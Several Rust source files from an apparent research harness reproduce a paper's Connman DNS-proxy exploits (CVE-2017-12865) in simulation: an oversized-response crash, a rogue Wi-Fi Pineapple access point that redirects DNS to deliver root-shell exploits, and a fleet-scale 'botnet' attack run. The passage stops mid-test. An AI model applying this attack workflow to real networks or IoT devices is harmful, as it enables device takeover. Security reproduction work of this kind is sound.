//! "On receiving a request from Connman, our DNS server sends a Type A
//! response with length greater than the name buffer size. When Connman
//! decompresses and adds the message to the name buffer, the application
//! crashes." Run against the last vulnerable release (1.34) and the
//! patched 1.35, on all three architectures.

use cml_exploit::strategies::DosCrash;
use cml_firmware::{Arch, FirmwareKind, Protections};

use crate::lab::{AttackOutcome, Lab, LabError};
use crate::report::Table;

/// Runs the experiment.
pub fn run() -> Table {
    let mut t = Table::new(
        "E1",
        "DoS via oversized Type-A response (CVE-2017-12865 trigger)",
        &["arch", "firmware", "connman", "outcome", "paper says"],
    );
    for arch in Arch::ALL {
        for kind in [FirmwareKind::OpenElec, FirmwareKind::Patched] {
            let lab = Lab::new(kind, arch).with_protections(Protections::none());
            let fw = lab.firmware();
            let version = fw.kind().connman_version().to_string();
            let (outcome, paper) = match lab.run_exploit(&DosCrash::new()) {
                Ok(report) => {
                    let expected = if kind.is_vulnerable() {
                        "crash"
                    } else {
                        "survive"
                    };
                    (report.outcome.to_string(), expected)
                }
                Err(LabError::Recon(_)) => {
                    // Patched firmware refuses to crash during recon —
                    // deliver the naive oversized response directly.
                    let mut victim = lab.boot_victim();
                    let labels = vec![vec![0x41u8; 63]; 21];
                    let out = cml_exploit::target::deliver_labels(&mut victim, labels)
                        .expect("victim queries");
                    let verdict = if out.daemon_alive() {
                        AttackOutcome::Survived
                    } else {
                        AttackOutcome::DenialOfService
                    };
                    (verdict.to_string(), "survive")
                }
                Err(e) => (format!("error: {e}"), "n/a"),
            };
            t.row([
                arch.to_string(),
                kind.os_name().to_string(),
                version,
                outcome,
                paper.to_string(),
            ]);
        }
    }
    t.note(
        "Vulnerable Connman (≤1.34) dies on all three architectures; the 1.35 bounds \
         check rejects the name and the daemon keeps serving — matching the paper \
         and the upstream fix.",
    );
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vulnerable_crashes_patched_survives() {
        let t = run();
        assert_eq!(t.rows.len(), 6);
        for row in &t.rows {
            if row[1] == "OpenELEC" {
                assert_eq!(row[3], "DoS (crash)", "{row:?}");
            } else {
                assert_eq!(row[3], "survived", "{row:?}");
            }
        }
    }
}
