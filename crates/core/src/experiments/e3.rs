//! E3 — the remote man-in-the-middle attack (§III-D, Fig. 1).
//!
//! Topology per the paper's Figure 1: a legitimate access point with a
//! benign upstream resolver; a victim device configured only with
//! "DHCP + automatic DNS"; a Wi-Fi Pineapple impersonating the trusted
//! SSID at higher signal whose DHCP hands out the attacker's DNS
//! server. On x86 the paper demonstrates the basic stack smash as a
//! feasibility proof; on ARMv7 it runs all three exploits.

use std::net::Ipv4Addr;

use cml_dns::{Name, RecordType};
use cml_exploit::strategies_for;
use cml_exploit::{ExploitStrategy, MaliciousDnsServer};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
use cml_netsim::{
    share, AccessPoint, ApConfig, DhcpConfig, HwAddr, RadioEnvironment, Ssid, WifiPineapple,
};

use crate::device::{IotDevice, LookupOutcome};
use crate::lab::Lab;
use crate::report::Table;

/// The protection level each §III-D run uses — the one its technique is
/// built for.
fn protections_for(section: &str) -> Protections {
    match section {
        "III-A1" | "III-A2" => Protections::none(),
        "III-B1" | "III-B2" => Protections::wxorx(),
        _ => Protections::full(),
    }
}

/// One remote attack: set up Fig. 1, lure the device, intercept its DNS.
fn remote_attack(arch: Arch, strategy: &dyn ExploitStrategy) -> Result<RemoteRun, String> {
    let protections = protections_for(strategy.paper_section());
    let fw = Firmware::build(FirmwareKind::OpenElec, arch);

    // Attacker-side preparation in the controlled lab, as in §III-A..C.
    let lab = Lab::with_firmware(fw.clone()).with_protections(protections);
    let target = lab.recon().map_err(|e| e.to_string())?;
    let payload = strategy.build(&target).map_err(|e| e.to_string())?;

    // Fig. 1: legitimate infrastructure.
    let mut env = RadioEnvironment::new();
    let upstream_dns = Ipv4Addr::new(192, 168, 1, 53);
    env.add_ap(AccessPoint::new(ApConfig {
        ssid: Ssid::new("LabNet"),
        bssid: HwAddr::local(0x0001),
        signal_dbm: -55,
        dhcp: DhcpConfig::new([192, 168, 1], upstream_dns),
    }));
    // The honest upstream: a zone server with the vendor's records.
    let mut zone = cml_dns::Zone::new();
    zone.a(
        "firmware-update.vendor.example",
        300,
        Ipv4Addr::new(93, 184, 216, 34),
    )
    .a(
        "telemetry.vendor.example",
        300,
        Ipv4Addr::new(93, 184, 216, 35),
    );
    let mut upstream = cml_dns::ZoneServer::new(zone);
    env.register_service(upstream_dns, share(move |p: &[u8]| upstream.handle(p)));

    // The victim: stock configuration, joins its trusted SSID.
    let mut device = IotDevice::boot(
        &fw,
        protections,
        0xBEEF,
        HwAddr::local(0x0071),
        Ssid::new("LabNet"),
    );
    device.reconnect(&mut env);
    let name = Name::parse("firmware-update.vendor.example").map_err(|e| e.to_string())?;
    let before = device.lookup(&mut env, &name, RecordType::A);
    let healthy_before = matches!(
        before,
        LookupOutcome::Network(cml_connman::ProxyOutcome::Answered { .. })
    );

    // The Pineapple goes up; the device hops on its next scan.
    let mut malicious = MaliciousDnsServer::new(&payload).map_err(|e| e.to_string())?;
    let service = share(move |p: &[u8]| malicious.handle(p));
    let pineapple = WifiPineapple::deploy(&mut env, &Ssid::new("LabNet"), service)
        .ok_or("target ssid not on air")?;
    let hopped = device.reconnect(&mut env);
    let on_rogue_dns = device.station().dns_server() == Some(pineapple.dns_addr());

    // The next ordinary lookup delivers the exploit.
    let name2 = Name::parse("telemetry.vendor.example").map_err(|e| e.to_string())?;
    let attack = device.lookup(&mut env, &name2, RecordType::A);
    Ok(RemoteRun {
        healthy_before,
        hopped,
        on_rogue_dns,
        outcome: attack,
    })
}

struct RemoteRun {
    healthy_before: bool,
    hopped: bool,
    on_rogue_dns: bool,
    outcome: LookupOutcome,
}

/// Runs the experiment.
pub fn run() -> Table {
    let mut t = Table::new(
        "E3",
        "remote exploitation through a Wi-Fi Pineapple rogue AP (Fig. 1)",
        &[
            "paper §",
            "arch",
            "protections",
            "lured",
            "rogue DNS",
            "attack outcome",
        ],
    );
    // x86: basic stack smash only, "as a proof of feasibility".
    // ARMv7: all three exploits, as in the paper.
    let runs: Vec<(Arch, Box<dyn ExploitStrategy>)> = std::iter::once((
        Arch::X86,
        Box::new(cml_exploit::CodeInjection::new(Arch::X86)) as Box<dyn ExploitStrategy>,
    ))
    .chain(
        strategies_for(Arch::Armv7)
            .into_iter()
            .map(|s| (Arch::Armv7, s)),
    )
    .collect();
    for (arch, strategy) in runs {
        match remote_attack(arch, strategy.as_ref()) {
            Ok(run) => {
                assert!(run.healthy_before, "device must work before the attack");
                t.row([
                    strategy.paper_section().to_string(),
                    arch.to_string(),
                    protections_for(strategy.paper_section()).label(),
                    if run.hopped { "yes" } else { "no" }.to_string(),
                    if run.on_rogue_dns { "yes" } else { "no" }.to_string(),
                    match &run.outcome {
                        LookupOutcome::Network(o) if o.is_root_shell() => "root shell".into(),
                        other => other.to_string(),
                    },
                ]);
            }
            Err(e) => {
                t.row([
                    strategy.paper_section().to_string(),
                    arch.to_string(),
                    protections_for(strategy.paper_section()).label(),
                    "-".into(),
                    "-".into(),
                    format!("error: {e}"),
                ]);
            }
        }
    }
    t.note(
        "All four remote runs reproduce §III-D: the stronger rogue SSID lures \
         the stock-configured device, DHCP re-points its resolver, and the very \
         next lookup delivers the exploit — x86 stack smash as feasibility \
         proof, then all three ARMv7 exploits with no configuration change on \
         the victim.",
    );
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_remote_attacks_succeed() {
        let t = run();
        assert_eq!(t.rows.len(), 4);
        for row in &t.rows {
            assert_eq!(row[3], "yes", "lured: {row:?}");
            assert_eq!(row[4], "yes", "rogue dns: {row:?}");
            assert_eq!(row[5], "root shell", "{row:?}");
        }
    }
}
