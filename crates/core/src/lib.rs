//! Orchestration and experiment harness for `connman-lab`.
//!
//! The crate ties the substrates together into the workflows of the
//! reproduced paper:
//!
//! * [`Lab`] — the controlled-environment workflow of §III: build a
//!   firmware, reconnoitre a local replica, construct an exploit, attack
//!   a freshly booted victim, and report what happened;
//! * [`IotDevice`] — a firmware daemon attached to a simulated wireless
//!   [`cml_netsim::Station`], for the §III-D remote scenario;
//! * [`experiments`] — the E1–E8 experiment suite that regenerates every
//!   result the paper reports (and the extensions DESIGN.md commits to),
//!   as renderable [`report::Table`]s.
//!
//! # Quickstart
//!
//! ```
//! use cml_core::{AttackOutcome, Lab};
//! use cml_exploit::RopMemcpyChain;
//! use cml_firmware::{Arch, FirmwareKind, Protections};
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! // OpenELEC on ARMv7 with full W⊕X + ASLR, like the paper's Pi.
//! let lab = Lab::new(FirmwareKind::OpenElec, Arch::Armv7)
//!     .with_protections(Protections::full());
//! let report = lab.run_exploit(&RopMemcpyChain::new(Arch::Armv7))?;
//! assert_eq!(report.outcome, AttackOutcome::RootShell);
//! # Ok(())
//! # }
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod arena;
mod device;
pub mod experiments;
pub mod fleet;
mod lab;
pub mod report;
pub mod runner;

pub use device::{IotDevice, LookupOutcome};
pub use fleet::{
    CohortAccum, CohortReport, CohortSpec, DeviceRecord, FleetConfig, FleetReport, FleetSpec,
    PhaseTimings, Verdict,
};
pub use lab::{AttackOutcome, AttackReport, Lab, LabError};
pub use runner::{derive_seed, Runner};

pub use cml_connman::ProxyOutcome;
pub use cml_exploit::{ExploitStrategy, TargetInfo};
pub use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
