//! Tabular experiment reports, rendered for EXPERIMENTS.md.

use std::fmt;

/// One experiment's results as a table plus free-form notes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Table {
    /// Experiment id (`"E2"`).
    pub id: String,
    /// Human title.
    pub title: String,
    /// Column headers.
    pub header: Vec<String>,
    /// Data rows.
    pub rows: Vec<Vec<String>>,
    /// Prose notes (listings, caveats, observed-vs-paper commentary).
    pub notes: Vec<String>,
}

impl Table {
    /// Starts an empty table.
    pub fn new(id: impl Into<String>, title: impl Into<String>, header: &[&str]) -> Self {
        Table {
            id: id.into(),
            title: title.into(),
            header: header.iter().map(|s| s.to_string()).collect(),
            rows: Vec::new(),
            notes: Vec::new(),
        }
    }

    /// Appends a row; cell count should match the header.
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        let row: Vec<String> = cells.into_iter().map(Into::into).collect();
        debug_assert_eq!(row.len(), self.header.len(), "row width matches header");
        self.rows.push(row);
    }

    /// Appends a note paragraph.
    pub fn note(&mut self, text: impl Into<String>) {
        self.notes.push(text.into());
    }

    /// Renders GitHub-flavoured markdown.
    pub fn to_markdown(&self) -> String {
        let mut out = format!("### {} — {}\n\n", self.id, self.title);
        let widths: Vec<usize> = self
            .header
            .iter()
            .enumerate()
            .map(|(i, h)| {
                self.rows
                    .iter()
                    .map(|r| r.get(i).map_or(0, |c| c.chars().count()))
                    .chain([h.chars().count()])
                    .max()
                    .unwrap_or(1)
            })
            .collect();
        let fmt_row = |cells: &[String]| {
            let padded: Vec<String> = cells
                .iter()
                .enumerate()
                .map(|(i, c)| format!("{c:<width$}", width = widths.get(i).copied().unwrap_or(1)))
                .collect();
            format!("| {} |\n", padded.join(" | "))
        };
        out.push_str(&fmt_row(&self.header));
        let dashes: Vec<String> = widths.iter().map(|w| "-".repeat(*w)).collect();
        out.push_str(&format!("|-{}-|\n", dashes.join("-|-")));
        for row in &self.rows {
            out.push_str(&fmt_row(row));
        }
        for note in &self.notes {
            out.push_str(&format!("\n{note}\n"));
        }
        out
    }
}

impl fmt::Display for Table {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_markdown())
    }
}

/// A full suite run: every experiment's table in order.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Suite {
    /// The tables, in experiment order.
    pub tables: Vec<Table>,
}

impl Suite {
    /// Renders the whole suite as one markdown document body.
    pub fn to_markdown(&self) -> String {
        self.tables
            .iter()
            .map(Table::to_markdown)
            .collect::<Vec<_>>()
            .join("\n")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_shape() {
        let mut t = Table::new("E0", "demo", &["arch", "result"]);
        t.row(["x86", "shell"]);
        t.row(["ARMv7", "shell"]);
        t.note("both succeed");
        let md = t.to_markdown();
        assert!(md.starts_with("### E0 — demo"));
        assert!(md.contains("| arch  | result |"));
        assert!(md.contains("| ARMv7 | shell  |"));
        assert!(md.contains("both succeed"));
    }

    #[test]
    fn suite_concatenates() {
        let mut s = Suite::default();
        s.tables.push(Table::new("E1", "a", &["x"]));
        s.tables.push(Table::new("E2", "b", &["y"]));
        let md = s.to_markdown();
        assert!(md.contains("E1") && md.contains("E2"));
    }
}
