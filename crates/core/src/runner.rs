//! Sharded work-stealing runner for the experiment matrix.
//!
//! The paper's matrices (E2/E4/E6/E7) and the fleet scenario are
//! embarrassingly parallel: every cell boots its own machines and shares
//! nothing with its neighbours. [`Runner`] fans a list of cells across a
//! worker pool while keeping the output *byte-identical* to a serial
//! run:
//!
//! * **Deterministic seeds** — a cell's randomness comes from
//!   [`derive_seed`]`(base_seed, cell_id)`, a pure function of the cell's
//!   position in the matrix, never from "the next draw" of a shared RNG.
//!   Serial and parallel runs therefore boot identical victims.
//! * **Ordered merge** — results land in a slot per cell and are read
//!   back in cell order, so report rows appear exactly as a serial loop
//!   would have emitted them no matter which worker finished first.
//!
//! Scheduling is sharded work-stealing: indices are dealt round-robin
//! into one deque per worker; a worker pops from the front of its own
//! shard and, when empty, steals from the back of a victim's. No new
//! work is ever produced mid-run, so "every shard empty" is the
//! termination condition.

use std::collections::VecDeque;
use std::sync::atomic::AtomicU64;

use parking_lot::Mutex;

/// Derives a per-cell seed from the run's base seed and the cell's
/// stable id (its index in the matrix enumeration).
///
/// The mix is SplitMix64 over the pair, so distinct cells get
/// uncorrelated layouts while any `(base, cell)` pair is reproducible
/// forever — the determinism contract both the serial and parallel
/// paths rely on.
pub fn derive_seed(base_seed: u64, cell_id: u64) -> u64 {
    let mut z = base_seed ^ cell_id.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// A fixed-size worker pool that maps a function over indexed cells.
#[derive(Debug, Clone, Copy)]
pub struct Runner {
    jobs: usize,
}

impl Runner {
    /// Creates a runner with the given worker count; `0` means "one per
    /// available CPU".
    pub fn new(jobs: usize) -> Self {
        let jobs = if jobs == 0 {
            std::thread::available_parallelism().map_or(1, |n| n.get())
        } else {
            jobs
        };
        Runner { jobs }
    }

    /// The effective worker count.
    pub fn jobs(&self) -> usize {
        self.jobs
    }

    /// Runs `work(cell_id, item)` for every item and returns the results
    /// in item order, regardless of completion order or worker count.
    pub fn run<T, R, F>(&self, items: Vec<T>, work: F) -> Vec<R>
    where
        T: Send,
        R: Send,
        F: Fn(usize, T) -> R + Sync,
    {
        let n = items.len();
        let workers = self.jobs.min(n).max(1);
        if workers == 1 {
            return items
                .into_iter()
                .enumerate()
                .map(|(i, t)| work(i, t))
                .collect();
        }
        let slots: Vec<Mutex<Option<T>>> = items.into_iter().map(|t| Mutex::new(Some(t))).collect();
        // Deal indices round-robin so adjacent (often similarly heavy)
        // cells start on different workers.
        let shards: Vec<Mutex<VecDeque<usize>>> = (0..workers)
            .map(|w| Mutex::new((w..n).step_by(workers).collect()))
            .collect();
        let results: Vec<Mutex<Option<R>>> = (0..n).map(|_| Mutex::new(None)).collect();
        std::thread::scope(|scope| {
            for w in 0..workers {
                let slots = &slots;
                let shards = &shards;
                let results = &results;
                let work = &work;
                scope.spawn(move || {
                    while let Some(i) = next_index(w, shards) {
                        let item = slots[i].lock().take();
                        if let Some(item) = item {
                            *results[i].lock() = Some(work(i, item));
                        }
                    }
                });
            }
        });
        results
            .into_iter()
            .map(|m| m.into_inner().expect("every cell produces a result"))
            .collect()
    }

    /// Maps `work` over the index ranges `[k·chunk, (k+1)·chunk) ∩
    /// [0, total)` and returns one partial per chunk, ordered by chunk
    /// index regardless of completion order.
    ///
    /// This is the O(1)-per-item scheduler for fleet-scale fan-outs:
    /// where [`Runner::run`] materializes a slot and a mutex per item,
    /// `run_chunks` keeps only an atomic claim counter and
    /// `total / chunk` partials, so a million-device campaign's
    /// scheduling state stays a few hundred accumulators. Chunks are
    /// claimed dynamically, so uneven per-chunk cost load-balances like
    /// work stealing.
    ///
    /// # Panics
    ///
    /// Panics if `chunk` is zero.
    pub fn run_chunks<P, F>(&self, total: u64, chunk: u64, work: F) -> Vec<P>
    where
        P: Send,
        F: Fn(std::ops::Range<u64>) -> P + Sync,
    {
        assert!(chunk > 0, "chunk size must be positive");
        let chunks = total.div_ceil(chunk);
        let workers = self.jobs.min(chunks.max(1) as usize).max(1);
        if workers == 1 {
            return (0..chunks)
                .map(|k| work(k * chunk..total.min((k + 1) * chunk)))
                .collect();
        }
        let next = AtomicU64::new(0);
        let partials: Vec<Mutex<Option<P>>> = (0..chunks).map(|_| Mutex::new(None)).collect();
        std::thread::scope(|scope| {
            for _ in 0..workers {
                let next = &next;
                let partials = &partials;
                let work = &work;
                scope.spawn(move || loop {
                    let k = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    if k >= chunks {
                        break;
                    }
                    let r = work(k * chunk..total.min((k + 1) * chunk));
                    *partials[k as usize].lock() = Some(r);
                });
            }
        });
        partials
            .into_iter()
            .map(|m| m.into_inner().expect("every chunk produces a partial"))
            .collect()
    }
}

/// Pops the next index for worker `w`: front of its own shard, else the
/// back of the first non-empty victim (classic steal-from-the-cold-end).
fn next_index(w: usize, shards: &[Mutex<VecDeque<usize>>]) -> Option<usize> {
    if let Some(i) = shards[w].lock().pop_front() {
        return Some(i);
    }
    let n = shards.len();
    for off in 1..n {
        if let Some(i) = shards[(w + off) % n].lock().pop_back() {
            return Some(i);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};

    #[test]
    fn seeds_are_stable_and_distinct() {
        let a = derive_seed(0xD00D, 0);
        let b = derive_seed(0xD00D, 1);
        assert_eq!(a, derive_seed(0xD00D, 0), "pure function");
        assert_ne!(a, b, "cells decorrelated");
        assert_ne!(a, derive_seed(0xD00E, 0), "base matters");
    }

    #[test]
    fn results_keep_item_order_at_any_width() {
        let items: Vec<usize> = (0..97).collect();
        let expect: Vec<usize> = items.iter().map(|i| i * 3).collect();
        for jobs in [1, 2, 4, 8] {
            let got = Runner::new(jobs).run(items.clone(), |_, x| x * 3);
            assert_eq!(got, expect, "jobs={jobs}");
        }
    }

    #[test]
    fn cell_id_matches_item_index() {
        let got = Runner::new(4).run(vec!['a', 'b', 'c', 'd', 'e'], |i, c| (i, c));
        assert_eq!(got, vec![(0, 'a'), (1, 'b'), (2, 'c'), (3, 'd'), (4, 'e')]);
    }

    #[test]
    fn uneven_loads_are_stolen() {
        // One huge cell plus many small: with 4 workers, the small cells
        // must all complete even though one shard is stuck.
        let touched = AtomicUsize::new(0);
        let items: Vec<u64> = (0..32).map(|i| if i == 0 { 200_000 } else { 10 }).collect();
        let sums = Runner::new(4).run(items, |_, spin| {
            let mut acc = 0u64;
            for k in 0..spin {
                acc = acc.wrapping_add(std::hint::black_box(k));
            }
            touched.fetch_add(1, Ordering::Relaxed);
            acc
        });
        assert_eq!(sums.len(), 32);
        assert_eq!(touched.load(Ordering::Relaxed), 32);
    }

    #[test]
    fn zero_jobs_means_all_cpus() {
        assert!(Runner::new(0).jobs() >= 1);
    }

    #[test]
    fn chunk_partials_arrive_in_chunk_order_at_any_width() {
        // Sum of each range, plus its bounds, so ordering and coverage
        // are both checked.
        for jobs in [1, 2, 4, 8] {
            for (total, chunk) in [(0u64, 7u64), (1, 7), (97, 7), (96, 32), (5, 100)] {
                let got = Runner::new(jobs).run_chunks(total, chunk, |r| (r.start, r.end));
                let chunks = total.div_ceil(chunk);
                assert_eq!(got.len() as u64, chunks, "jobs={jobs} total={total}");
                for (k, (s, e)) in got.iter().enumerate() {
                    assert_eq!(*s, k as u64 * chunk);
                    assert_eq!(*e, total.min((k as u64 + 1) * chunk));
                }
            }
        }
    }

    #[test]
    fn chunk_sums_match_serial_at_any_width() {
        let total = 100_000u64;
        let want: u64 = (0..total).sum();
        for jobs in [1, 3, 8] {
            let got: u64 = Runner::new(jobs)
                .run_chunks(total, 4096, |r| r.sum::<u64>())
                .into_iter()
                .sum();
            assert_eq!(got, want, "jobs={jobs}");
        }
    }
}
