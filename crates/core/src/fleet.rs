//! Fleet-scale rogue-AP scenario: N devices, one attacker, `--jobs`
//! workers.
//!
//! The paper closes with "exploit code designed to create a botnet" —
//! `tests/fleet.rs` walks a 7-device version of that story on a shared
//! radio environment. This module is the *throughput* version: every
//! device's boot + lure + attack session is independent (its own radio
//! cell, its own rogue AP), so the whole fleet fans across a
//! [`Runner`] pool. Payloads and firmwares are built once up front; each
//! per-device session only boots a daemon and delivers one response.
//!
//! Determinism: device `i` boots with
//! [`derive_seed`]`(base_seed, i)` and results merge in device order, so
//! [`FleetReport::render`] is byte-identical at any worker count.

use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use cml_dns::{Name, RecordType};
use cml_exploit::{ExploitStrategy, MaliciousDnsServer, Payload, RopMemcpyChain};
use cml_firmware::{Arch, BootForge, Firmware, FirmwareKind, Protections};
use cml_netsim::{share, AccessPoint, ApConfig, DhcpConfig, HwAddr, RadioEnvironment, Ssid};

use crate::device::IotDevice;
use crate::lab::Lab;
use crate::runner::{derive_seed, Runner};

/// One device in the fleet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeviceSpec {
    /// Firmware profile the device ships.
    pub kind: FirmwareKind,
    /// Its CPU.
    pub arch: Arch,
}

/// A parameterized fleet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FleetSpec {
    /// Base seed; device `i` boots with `derive_seed(base_seed, i)`.
    pub base_seed: u64,
    /// The devices, in fleet order.
    pub devices: Vec<DeviceSpec>,
}

impl FleetSpec {
    /// A heterogeneous fleet of `n` devices in the 10-device pattern
    /// 4× smart-TV (OpenELEC/ARMv7), 3× thermostat (Yocto/x86),
    /// 2× set-top (Tizen/ARMv7), 1× patched camera (Patched/ARMv7) —
    /// roughly the vulnerable/patched mix of the paper's survey.
    pub fn heterogeneous(n: usize, base_seed: u64) -> FleetSpec {
        const PATTERN: [DeviceSpec; 10] = [
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::Yocto,
                arch: Arch::X86,
            },
            DeviceSpec {
                kind: FirmwareKind::Yocto,
                arch: Arch::X86,
            },
            DeviceSpec {
                kind: FirmwareKind::Yocto,
                arch: Arch::X86,
            },
            DeviceSpec {
                kind: FirmwareKind::Tizen,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::Tizen,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::Patched,
                arch: Arch::Armv7,
            },
        ];
        FleetSpec {
            base_seed,
            devices: (0..n).map(|i| PATTERN[i % PATTERN.len()]).collect(),
        }
    }
}

/// What happened to one device.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeviceOutcome {
    /// Stable device name (`"dev-0017 openelec/ARMv7"` style).
    pub name: String,
    /// Whether the firmware is a vulnerable build.
    pub vulnerable: bool,
    /// Whether the attack spawned a root shell on it.
    pub compromised: bool,
    /// Whether the daemon still serves after the attack round.
    pub alive: bool,
}

/// The merged result of a fleet run.
#[derive(Debug, Clone)]
pub struct FleetReport {
    /// Per-device outcomes, in fleet order.
    pub outcomes: Vec<DeviceOutcome>,
    /// Wall-clock time of the attack fan-out (excludes the shared
    /// firmware/payload prep).
    pub elapsed: Duration,
    /// Worker count used.
    pub jobs: usize,
}

impl FleetReport {
    /// Number of devices with a root shell.
    pub fn compromised(&self) -> usize {
        self.outcomes.iter().filter(|o| o.compromised).count()
    }

    /// Number of devices still serving.
    pub fn survivors(&self) -> usize {
        self.outcomes.iter().filter(|o| o.alive).count()
    }

    /// Devices attacked per second of wall time.
    pub fn devices_per_sec(&self) -> f64 {
        self.outcomes.len() as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }

    /// Deterministic rendering — excludes timing so serial and parallel
    /// runs of the same [`FleetSpec`] produce identical bytes.
    pub fn render(&self) -> String {
        let mut out = format!(
            "fleet: {} devices, {} compromised, {} survivors\n",
            self.outcomes.len(),
            self.compromised(),
            self.survivors()
        );
        for o in &self.outcomes {
            let verdict = if o.compromised {
                "root shell"
            } else if o.alive {
                "alive"
            } else {
                "crashed"
            };
            out.push_str(&format!("{}: {}\n", o.name, verdict));
        }
        out
    }
}

/// Runs the rogue-AP attack against every device in the spec on `jobs`
/// workers (0 = one per CPU).
///
/// Attacker prep (one recon + payload build per architecture, one
/// firmware build per distinct profile) happens once, serially; the
/// per-device boot + lure + attack sessions fan across the pool.
///
/// # Panics
///
/// Panics if reconnaissance or payload construction fails for an
/// architecture present in the spec — the fleet scenario is only
/// meaningful with working exploits.
pub fn run_fleet(spec: &FleetSpec, jobs: usize) -> FleetReport {
    run_fleet_with(spec, jobs, false)
}

thread_local! {
    /// Per-worker boot forges, keyed by device profile: within one
    /// worker thread, the first device of each profile pays for a full
    /// boot and every later one forks it (restore + per-device reslide).
    static FORGES: RefCell<Vec<(DeviceSpec, BootForge)>> = const { RefCell::new(Vec::new()) };
}

/// [`run_fleet`] with an explicit boot path: when `snapshot` is true,
/// each worker boots one daemon per firmware profile and forks it per
/// device instead of booting every device from scratch. The report
/// renders byte-identically either way.
pub fn run_fleet_with(spec: &FleetSpec, jobs: usize, snapshot: bool) -> FleetReport {
    let ssid = Ssid::new("SmartHome");
    let protections = Protections::full();
    let dns = Ipv4Addr::new(10, 0, 0, 53);

    // One payload per architecture, from the attacker's own replica.
    let mut payloads: Vec<(Arch, Payload)> = Vec::new();
    for arch in Arch::ALL {
        if spec.devices.iter().any(|d| d.arch == arch) {
            let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
            let target = lab.recon().expect("vulnerable replica recon succeeds");
            let payload = RopMemcpyChain::new(arch)
                .build(&target)
                .expect("payload builds against the replica");
            payloads.push((arch, payload));
        }
    }
    // One firmware build per distinct profile.
    let mut firmwares: Vec<(DeviceSpec, Firmware)> = Vec::new();
    for d in &spec.devices {
        if !firmwares.iter().any(|(k, _)| k == d) {
            firmwares.push((*d, Firmware::build(d.kind, d.arch)));
        }
    }

    let start = Instant::now();
    let runner = Runner::new(jobs);
    let outcomes = runner.run(spec.devices.clone(), |i, d| {
        let fw = &firmwares.iter().find(|(k, _)| *k == d).expect("prebuilt").1;
        let payload = &payloads
            .iter()
            .find(|(a, _)| *a == d.arch)
            .expect("prebuilt")
            .1;
        // Each device gets its own radio cell with the rogue AP as the
        // only (strongest) network, serving the arch-matched payload.
        let mut env = RadioEnvironment::new();
        env.add_ap(AccessPoint::new(ApConfig {
            ssid: ssid.clone(),
            bssid: HwAddr::local(1),
            signal_dbm: -40,
            dhcp: DhcpConfig::new([10, 0, 0], dns),
        }));
        let mut evil = MaliciousDnsServer::new(payload).expect("payload fits DNS labels");
        env.register_service(dns, share(move |p: &[u8]| evil.handle(p)));

        let seed = derive_seed(spec.base_seed, i as u64);
        let mac = HwAddr::local((i % u16::MAX as usize) as u16);
        let mut dev = if snapshot {
            let daemon = FORGES.with(|forges| {
                let mut forges = forges.borrow_mut();
                if !forges.iter().any(|(k, _)| *k == d) {
                    forges.push((d, fw.forge(protections, seed)));
                }
                let forge = &mut forges
                    .iter_mut()
                    .find(|(k, _)| *k == d)
                    .expect("just added")
                    .1;
                forge.fork(seed).clone()
            });
            IotDevice::with_daemon(daemon, mac, ssid.clone())
        } else {
            IotDevice::boot(fw, protections, seed, mac, ssid.clone())
        };
        let name = format!("dev-{i:04} {}/{}", d.kind.os_name(), d.arch);
        dev.reconnect(&mut env);
        let host = Name::parse(&format!("telemetry-{i}.vendor.example")).expect("valid name");
        let lookup = dev.lookup(&mut env, &host, RecordType::A);
        DeviceOutcome {
            name,
            vulnerable: d.kind.is_vulnerable(),
            compromised: lookup.compromised(),
            alive: dev.is_alive(),
        }
    });
    FleetReport {
        outcomes,
        elapsed: start.elapsed(),
        jobs: runner.jobs(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vulnerable_devices_fall_and_patched_survive() {
        let spec = FleetSpec::heterogeneous(10, 0xF1EE7);
        let report = run_fleet(&spec, 2);
        assert_eq!(report.outcomes.len(), 10);
        for o in &report.outcomes {
            if o.vulnerable {
                assert!(o.compromised, "{} should fall", o.name);
                assert!(!o.alive, "{} daemon should be dead", o.name);
            } else {
                assert!(!o.compromised, "{} is patched", o.name);
                assert!(o.alive, "{} should survive", o.name);
            }
        }
        assert_eq!(report.compromised(), 9);
        assert_eq!(report.survivors(), 1);
    }

    #[test]
    fn render_is_deterministic_across_worker_counts() {
        let spec = FleetSpec::heterogeneous(12, 42);
        let serial = run_fleet(&spec, 1).render();
        let parallel = run_fleet(&spec, 4).render();
        assert_eq!(serial, parallel);
    }

    #[test]
